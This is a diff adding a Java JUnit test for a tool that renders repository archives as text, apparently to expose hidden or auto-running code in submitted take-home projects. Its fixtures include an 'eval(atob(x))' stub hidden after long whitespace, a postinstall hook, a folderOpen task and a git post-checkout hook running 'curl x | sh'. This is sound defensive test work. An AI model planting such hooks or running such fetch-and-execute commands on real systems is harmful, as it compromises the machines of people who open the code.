@@ -1,0 +1,104 @@
+package dev.bonafide.documents.archive;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.bonafide.casefile.Exhibit;
+import dev.bonafide.casefile.ExhibitKind;
+import dev.bonafide.documents.intake.Opened;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class RepositoryTest {
+  private static final String PACKAGE = "{\"scripts\": {\"postinstall\": \"node ./sync.js\"}}";
+
+  @TempDir Path temp;
+
+  @Test
+  void code_that_is_pushed_out_of_sight_is_brought_back() {
+    String code = "const a = 1;" + " ".repeat(900) + "eval(atob(x))";
+    assertThat(text("package.json", PACKAGE, "index.js", code))
+        .contains("const a = 1; [900 blanks] eval(atob(x))");
+  }
+
+  @Test
+  void a_line_of_a_machine_is_cut_and_the_cut_is_told() {
+    String line = "a".repeat(50_000) + "END";
+    assertThat(text("package.json", PACKAGE, "x.min.js", line))
+        .contains(" [cut: 48103 characters] ", "END")
+        .hasSizeLessThan(3_000);
+  }
+
+  @Test
+  void a_file_that_is_too_long_is_cut_and_one_without_text_is_told() {
+    String text =
+        text("package.json", PACKAGE, "long.py", "x = 1\n".repeat(20_000), "b.bin", "a\0b");
+    assertThat(text).contains("[cut: the file has 120000 bytes]", "[no text, 3 bytes]");
+  }
+
+  @Test
+  void a_broken_letter_hides_no_file() {
+    byte[] code = Made.bytes("run(X)");
+    code[4] = (byte) 0xC3;
+    assertThat(Opened.of("r.zip", ExhibitKind.REPOSITORY, Made.zipOf("a.js", code)))
+        .singleElement()
+        .matches(exhibit -> exhibit.text().contains("run("));
+  }
+
+  @Test
+  void what_was_fetched_is_counted_and_not_read() {
+    assertThat(text("package.json", PACKAGE, "node_modules/x/index.js", "secret words"))
+        .contains("1 files of packages and objects are not read")
+        .doesNotContain("secret words");
+  }
+
+  @Test
+  void what_acts_by_itself_stands_first() {
+    String text =
+        text(
+            "take-home/src/app.js", "start()",
+            "take-home/README.md", "Run npm install",
+            "take-home/.vscode/tasks.json", "{\"runOn\": \"folderOpen\"}",
+            "take-home/package.json", PACKAGE);
+    assertThat(text).startsWith("Repository take.zip, 4 files\n");
+    assertThat(text)
+        .containsSubsequence(
+            "=== .vscode/tasks.json ===",
+            "folderOpen",
+            "=== package.json ===",
+            PACKAGE,
+            "=== README.md ===",
+            "=== src/app.js ===");
+  }
+
+  @Test
+  void a_folder_and_an_archive_of_it_read_the_same() throws IOException {
+    Files.createDirectories(temp.resolve("take/.git/hooks"));
+    Files.writeString(temp.resolve("take/package.json"), PACKAGE);
+    Files.writeString(temp.resolve("take/.git/hooks/post-checkout"), "curl x | sh");
+    List<Exhibit> folder =
+        new Cases(Opened.intake()).open("take", null, temp.resolve("take")).exhibits();
+    byte[] tar =
+        Made.tar("take/.git/hooks/post-checkout", "curl x | sh", "take/package.json", PACKAGE);
+    assertThat(folder).isEqualTo(Opened.of("take", Made.gzip(tar)));
+    assertThat(folder.getFirst().kind()).isEqualTo(ExhibitKind.REPOSITORY);
+    assertThat(folder.getFirst().text()).contains("=== .git/hooks/post-checkout ===\ncurl x | sh");
+  }
+
+  @Test
+  void anything_handed_in_as_a_repository_is_one() {
+    byte[] zip = Made.zip("a.txt", "words");
+    assertThat(Opened.of("r.zip", ExhibitKind.REPOSITORY, zip).getFirst().text())
+        .contains("=== a.txt ===\nwords");
+  }
+
+  private static String text(String... files) {
+    List<Exhibit> exhibits = Opened.of("take.zip", Made.zip(files));
+    assertThat(exhibits).hasSize(1);
+    assertThat(exhibits.getFirst().kind()).isEqualTo(ExhibitKind.REPOSITORY);
+    return exhibits.getFirst().text();
+  }
+}
